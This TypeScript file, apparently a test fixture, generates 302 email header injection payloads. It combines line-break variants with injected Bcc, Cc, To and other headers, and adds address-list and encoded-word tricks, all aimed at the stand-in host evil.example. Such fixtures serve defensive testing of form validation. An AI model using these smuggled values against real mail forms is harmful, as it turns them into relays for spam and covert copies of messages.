// What an attacker writes into a form to get a header, a recipient or a second mail out of it. Each names evil.example.

const starts = ['a@b.example', '']
const breaks = [
  '\r',
  '\n',
  '\r\n',
  '\n\r',
  '%0d%0a',
  '%0a',
  '\\r\\n',
  '\r\n ',
  '\r\n\t',
  '\u2028',
  '\u2029',
  '\u0000',
  '\u0085',
  '\u000b',
  '\r\n\r\n',
  '\u560d\u560a',
]
const headers = [
  'Bcc: x@evil.example',
  'Cc: x@evil.example',
  'To: x@evil.example',
  'Subject: evil.example',
  'From: x@evil.example',
  'Sender: x@evil.example',
  'Reply-To: x@evil.example',
  'Content-Type: text/html; name=evil.example',
  'RCPT TO:<x@evil.example>',
]
const lists = [
  'a@b.example,x@evil.example',
  'a@b.example, x@evil.example',
  'a@b.example;x@evil.example',
  'a@b.example; x@evil.example',
  'a@b.example x@evil.example',
  'a@b.example%2cx@evil.example',
  'group: x@evil.example;',
  '"a\r\nBcc: x@evil.example"@b.example',
  '"a,x@evil.example"@b.example',
  '"x@evil.example" <a@b.example>',
  '<x@evil.example>,a@b.example',
  `${'a'.repeat(10_000)}@evil.example`,
  '=?utf-8?q?a@b.example=0ABcc:x@evil.example?=',
  '=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?= evil.example',
]

/** Three hundred and two of them. */
export const injections: readonly string[] = [
  ...starts.flatMap((start) => {
    return breaks.flatMap((one) => headers.map((header) => `${start}${one}${header}`))
  }),
  ...lists,
]
